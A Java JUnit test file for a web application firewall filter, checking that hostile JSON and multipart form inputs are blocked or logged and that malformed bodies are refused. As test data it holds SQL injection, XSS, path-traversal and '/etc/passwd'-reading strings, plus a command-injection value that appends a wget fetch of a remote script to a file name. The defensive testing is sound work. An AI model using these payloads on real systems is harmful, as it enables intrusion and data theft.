package dev.bulwark.core.waf;

import dev.bulwark.api.Reason;
import dev.bulwark.api.Response;
import dev.bulwark.api.SecurityEvent;
import dev.bulwark.testing.Chains;
import dev.bulwark.testing.ExchangeBuilder;
import dev.bulwark.testing.Problems;
import dev.bulwark.testing.RecordingEventSink;
import dev.bulwark.testing.TestExchange;
import dev.bulwark.testing.Upstream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.Random;
import java.util.stream.Stream;

import static org.assertj.core.api.Assertions.assertThat;

/** The filter on hostile JSON shapes and on multipart forms, without a host. */
class WafFilterTest {

    private final RecordingEventSink events = new RecordingEventSink();

    /** A 64 KiB body of {@code depth} nested arrays around thousands of strings, {@code last} the final one. */
    private static byte[] deeplyNested(int depth, String last) {
        StringBuilder json = new StringBuilder("[".repeat(depth));
        while (json.length() < 64 * 1024 - depth - last.length() - 8) {
            json.append("\"a\",");
        }
        json.append('"').append(last).append('"').append("]".repeat(depth));
        return json.toString().getBytes(StandardCharsets.UTF_8);
    }

    private Response run(WafConfig config, byte[] body) {
        return Chains.run(ExchangeBuilder.post("/orders").body("application/json", body).events(events).build(),
                Upstream.ok(), new WafFilter(config));
    }

    @Test
    void aDeeplyNestedBodyCostsNoMoreThanAFlatOne() {
        WafConfig config = WafConfig.builder().exclude("body:$.note").build();
        run(config, deeplyNested(999, "a"));

        long started = System.nanoTime();
        Response passed = run(config, deeplyNested(999, "a"));
        long millis = (System.nanoTime() - started) / 1_000_000;

        assertThat(passed.status()).isEqualTo(200);
        assertThat(millis).as("one request's inspection, in ms (a path per string was seconds)").isLessThan(500);
        assertThat(run(config, deeplyNested(999, "1' OR '1'='1")).status()).isEqualTo(403);
        assertThat(events.events()).singleElement().satisfies(event ->
                assertThat(event.detail()).startsWith("sqli in body field \"$[*][*][*]"));
    }

    // ---- multipart/form-data ----

    private static final String BOUNDARY = "----WebKitFormBoundary7MA4YWxkTrZu0gW";
    private static final String MULTIPART = "multipart/form-data; boundary=" + BOUNDARY;
    private static final WafConfig LOG = WafConfig.builder().mode(WafConfig.Mode.LOG).build();

    private static String field(String name, String value) {
        return "--" + BOUNDARY + "\r\nContent-Disposition: form-data; name=\"" + name + "\"\r\n\r\n" + value + "\r\n";
    }

    private static String file(String name, String filename, String content) {
        return "--" + BOUNDARY + "\r\nContent-Disposition: form-data; name=\"" + name + "\"; filename=\"" + filename
                + "\"\r\nContent-Type: application/octet-stream\r\n\r\n" + content + "\r\n";
    }

    private static byte[] form(String... parts) {
        return (String.join("", parts) + "--" + BOUNDARY + "--\r\n").getBytes(StandardCharsets.UTF_8);
    }

    private static TestExchange multipart(String contentType, byte[] body) {
        return ExchangeBuilder.post("/profile").body(contentType, body).build();
    }

    private static Response run(WafConfig config, TestExchange exchange, Upstream upstream) {
        return Chains.run(exchange, upstream, new WafFilter(config));
    }

    /** Asserts a 403 whose one event names the check and starts naming the body field. */
    private static void assertBlocked(WafConfig config, byte[] body, String check, String field) {
        TestExchange exchange = multipart(MULTIPART, body);
        Upstream upstream = Upstream.ok();

        Response refused = run(config, exchange, upstream);

        Problems.assertRefused(refused, exchange, Reason.INJECTION_DETECTED);
        assertThat(upstream.reached()).isFalse();
        assertThat(exchange.recordedEvents().single().detail()).startsWith(check + " in body field \"" + field)
                .contains("value redacted");
    }

    static Stream<Arguments> attacks() {
        return Stream.of(Arguments.of("sqli", "1' OR '1'='1"), Arguments.of("xss", "<script>alert(1)</script>"),
                Arguments.of("traversal", "../../../etc/passwd"),
                Arguments.of("commandInjection", "a.png && wget http://203.0.113.5/x.sh"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("attacks")
    void anAttackInAMultipartFieldValueNameOrFilenameIsBlocked(String check, String payload) {
        WafConfig config = WafConfig.DEFAULT;
        assertBlocked(config, form(field("title", "Holiday"), field("comment", payload)), check, "comment\"");
        assertBlocked(config, form(field("title", "Holiday"), field(payload, "fine")), check, "");
        assertBlocked(config, form(field("title", "Holiday"), file("upload", payload, "GIF89a")), check,
                "upload\"");
    }

    @Test
    void aFormDataPartInAnotherMultipartTypeIsInspectedAndItsOtherPartsAreNot() {
        // Spring's multipart resolver reads a multipart/mixed body's form-data parts as request parameters.
        byte[] body = form("--" + BOUNDARY + "\r\nContent-Type: text/plain\r\n\r\n1' OR '1'='1\r\n",
                field("id", "1' OR '1'='1"));
        TestExchange mixed = multipart("multipart/mixed; boundary=" + BOUNDARY, body);
        Upstream upstream = Upstream.ok();

        Problems.assertRefused(run(WafConfig.DEFAULT, mixed, upstream), mixed, Reason.INJECTION_DETECTED);
        assertThat(upstream.reached()).isFalse();
        assertThat(mixed.recordedEvents().single().detail()).startsWith("sqli in body field \"id\"");

        byte[] related = form("--" + BOUNDARY + "\r\nContent-Type: text/plain\r\n\r\n1' OR '1'='1\r\n");
        TestExchange opaque = multipart("multipart/related; boundary=" + BOUNDARY, related);
        Upstream reached = Upstream.ok();
        assertThat(run(WafConfig.DEFAULT, opaque, reached).status()).isEqualTo(200);
        assertThat(reached.reached()).isTrue();
    }

    @Test
    void aFileWhoseContentLooksLikeAnAttackPasses() {
        TestExchange exchange = multipart(MULTIPART, form(field("title", "notes"), file("upload", "notes.txt",
                "1' OR '1'='1\r\n<script>alert(1)</script>\r\n../../../etc/passwd\r\n; cat /etc/passwd")));
        Upstream upstream = Upstream.ok();

        assertThat(run(WafConfig.DEFAULT, exchange, upstream).status()).isEqualTo(200);
        assertThat(upstream.reached()).isTrue();
        assertThat(exchange.recordedEvents().events()).isEmpty();
    }

    @Test
    void anExcludedFieldIsSkippedWholeAsInAUrlencodedForm() {
        WafConfig config = WafConfig.builder().exclude("body:bio", "body:avatar").build();
        TestExchange excluded = multipart(MULTIPART, form(field("bio", "<script>alert(1)</script>"),
                file("avatar", "../../../etc/passwd", "x")));
        TestExchange urlencoded = ExchangeBuilder.post("/profile").body("application/x-www-form-urlencoded",
                "bio=%3Cscript%3Ealert(1)%3C%2Fscript%3E".getBytes(StandardCharsets.UTF_8)).build();

        assertThat(run(config, excluded, Upstream.ok()).status()).isEqualTo(200);
        assertThat(run(config, urlencoded, Upstream.ok()).status()).isEqualTo(200);
        assertThat(excluded.recordedEvents().events()).isEmpty();
        assertBlocked(config, form(field("bio", "<script>alert(1)</script>"), field("name", "<script>x</script>")),
                "xss", "name\"");
        assertBlocked(WafConfig.builder().exclude("body:$.bio").build(), form(field("bio", "<svg onload=alert(1)>")),
                "xss", "bio\"");
    }

    @Test
    void logModePassesAMultipartAttackAndReportsIt() {
        TestExchange exchange = multipart(MULTIPART, form(field("id", "1 UNION SELECT password FROM users")));
        Upstream upstream = Upstream.ok();

        assertThat(run(LOG, exchange, upstream).status()).isEqualTo(200);
        assertThat(upstream.reached()).isTrue();
        SecurityEvent event = exchange.recordedEvents().single();
        assertThat(event.reason()).isEqualTo(Reason.INJECTION_DETECTED);
        assertThat(event.detail()).contains("sqli in body field \"id\"", "log mode, passed").doesNotContain("UNION");
    }

    static Stream<Arguments> malformed() {
        String open = "--" + BOUNDARY + "\r\n";
        String close = "--" + BOUNDARY + "--\r\n";
        String disposition = "Content-Disposition: form-data; name=\"id\"\r\n";
        return Stream.of(
                Arguments.of("no boundary", "multipart/form-data", form(field("a", "1"))),
                Arguments.of("an empty boundary", "multipart/form-data; boundary=\"\"", form(field("a", "1"))),
                Arguments.of("a boundary of 71 characters", "multipart/form-data; boundary=" + "b".repeat(71),
                        ("--" + "b".repeat(71) + "--").getBytes(StandardCharsets.UTF_8)),
                Arguments.of("the boundary twice", MULTIPART + "; boundary=other", form(field("a", "1"))),
                Arguments.of("no closing delimiter", MULTIPART, bytes(open + disposition + "\r\n1\r\n")),
                Arguments.of("no content-disposition", MULTIPART,
                        bytes(open + "Content-Type: text/plain\r\n\r\n1\r\n" + close)),
                Arguments.of("a disposition other than form-data", MULTIPART,
                        bytes(open + "Content-Disposition: attachment; name=\"id\"\r\n\r\n1\r\n" + close)),
                Arguments.of("no name", MULTIPART,
                        bytes(open + "Content-Disposition: form-data; filename=\"a\"\r\n\r\n1\r\n" + close)),
                Arguments.of("a header line without a colon", MULTIPART,
                        bytes(open + disposition + "X-Note\r\n\r\n1\r\n" + close)),
                Arguments.of("obsolete line folding", MULTIPART,
                        bytes(open + disposition + "X-Note: a\r\n b\r\n\r\n1\r\n" + close)),
                Arguments.of("a delimiter after a bare lf", MULTIPART,
                        bytes(open + disposition + "\r\nx\n--" + BOUNDARY + "\r\n" + disposition
                                + "\r\n1' OR '1'='1\r\n" + close)),
                Arguments.of("a form in bare lf", MULTIPART,
                        bytes("--" + BOUNDARY + "\nContent-Disposition: form-data; name=\"id\"\n\n1\n--" + BOUNDARY
                                + "--\n")),
                Arguments.of("transport padding", MULTIPART,
                        bytes("--" + BOUNDARY + " \r\n" + disposition + "\r\n1\r\n" + close)),
                Arguments.of("a base64 transfer encoding", MULTIPART,
                        bytes(open + disposition + "Content-Transfer-Encoding: base64\r\n\r\nJyBPUiAxPTEtLQ==\r\n"
                                + close)),
                Arguments.of("a utf-16 field", MULTIPART,
                        bytes(open + disposition + "Content-Type: text/plain; charset=utf-16\r\n\r\n1\r\n"
                                + close)),
                Arguments.of("filename*", MULTIPART, bytes(open + "Content-Disposition: form-data; name=\"f\";"
                        + " filename*=UTF-8''..%2F..%2Fetc%2Fpasswd\r\n\r\n1\r\n" + close)),
                Arguments.of("a backslash in a quoted name", MULTIPART, bytes(open
                        + "Content-Disposition: form-data; name=\"bio\\\"; x=\\\"id\"\r\n\r\n1\r\n" + close)),
                Arguments.of("two dispositions", MULTIPART, bytes(open + disposition
                        + "Content-Disposition: form-data; name=\"bio\"\r\n\r\n1\r\n" + close)),
                Arguments.of("more than 1000 parts", MULTIPART, MultipartFormTest.parts(MultipartForm.MAX_PARTS + 1)));
    }

    private static byte[] bytes(String body) {
        return body.getBytes(StandardCharsets.UTF_8);
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("malformed")
    void aMalformedMultipartBodyIsRefusedInBlockModeAndForwardedInLogMode(String what, String contentType,
                                                                          byte[] body) {
        TestExchange blocked = multipart(contentType, body);
        Upstream upstream = Upstream.ok();
        // 1,001 parts are more than the default 64 KiB.
        WafConfig config = WafConfig.builder().maxBodyInspection(1024 * 1024).build();

        Response refused = run(config, blocked, upstream);

        assertThat(Problems.assertRefused(refused, blocked, Reason.MALFORMED_REQUEST).path("detail").asText())
                .startsWith("the request body is not valid multipart/form-data: ");
        assertThat(upstream.reached()).isFalse();
        TestExchange logged = multipart(contentType, body);
        assertThat(run(WafConfig.builder().mode(WafConfig.Mode.LOG).maxBodyInspection(1024 * 1024).build(), logged,
                upstream).status()).isEqualTo(200);
        assertThat(upstream.reached()).isTrue();
        assertThat(logged.recordedEvents().events()).isEmpty();
    }

    @Test
    void aMultipartBodyNextToASecondContentTypeIsRefused() {
        byte[] body = form(field("id", "1"));
        TestExchange exchange = ExchangeBuilder.post("/profile").body(MULTIPART, body)
                .header("Content-Type", "application/x-www-form-urlencoded").build();

        Problems.assertRefused(run(WafConfig.DEFAULT, exchange, Upstream.ok()), exchange, Reason.MALFORMED_REQUEST);
    }

    @Test
    void anyInspectedBodyWithASecondContentTypeIsRefusedInBlockMode() {
        // Valid JSON, and as a form two fields ({"a":"1 and id=2"}): which reading the backend uses is its choice.
        byte[] body = "{\"a\":\"1&id=2\"}".getBytes(StandardCharsets.UTF_8);
        TestExchange both = ExchangeBuilder.post("/orders").body("application/json", body)
                .header("Content-Type", "application/x-www-form-urlencoded").build();
        Upstream upstream = Upstream.ok();

        Problems.assertRefused(run(WafConfig.DEFAULT, both, upstream), both, Reason.MALFORMED_REQUEST);
        assertThat(upstream.reached()).isFalse();

        TestExchange logged = ExchangeBuilder.post("/orders").body("application/json", body)
                .header("Content-Type", "application/x-www-form-urlencoded").build();
        assertThat(run(LOG, logged, Upstream.ok()).status()).isEqualTo(200);
    }

    @Test
    void aRealisticFormWithAnImagePassesUntouched() {
        ByteArrayOutputStream body = new ByteArrayOutputStream();
        body.writeBytes(bytes(field("name", "Seán O'Brien") + field("email", "sean.obrien@example.com")
                + field("note", "Please select the blue one; or the red one if it's sold out -- thanks!\r\n"
                        + "Size: 3 < 4, path docs/guide.md") + field("newsletter", "") + field("_charset_", "UTF-8")
                + "--" + BOUNDARY + "\r\nContent-Disposition: form-data; name=\"avatar\"; filename=\"me at the"
                + " beach.png\"\r\nContent-Type: image/png\r\n\r\n"));
        body.writeBytes(png(4096));
        body.writeBytes(bytes("\r\n--" + BOUNDARY + "--\r\n"));
        byte[] sent = body.toByteArray();
        TestExchange exchange = multipart("multipart/form-data; boundary=\"" + BOUNDARY + "\"", sent);
        Upstream upstream = Upstream.ok();

        assertThat(run(WafConfig.DEFAULT, exchange, upstream).status()).isEqualTo(200);
        assertThat(upstream.reached()).isTrue();
        assertThat(exchange.recordedEvents().events()).isEmpty();
        assertThat(upstream.exchanges().getFirst().body().toCompletableFuture().join()).isEqualTo(sent);
    }

    /** @return a PNG signature and IHDR chunk, then random bytes (a fixed seed: CR, LF, NUL, quotes, dashes…) */
    static byte[] png(int length) {
        byte[] png = new byte[length];
        new Random(7).nextBytes(png);
        byte[] head = {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1a, '\n', 0, 0, 0, 13, 'I', 'H', 'D', 'R'};
        System.arraycopy(head, 0, png, 0, head.length);
        return png;
    }
}
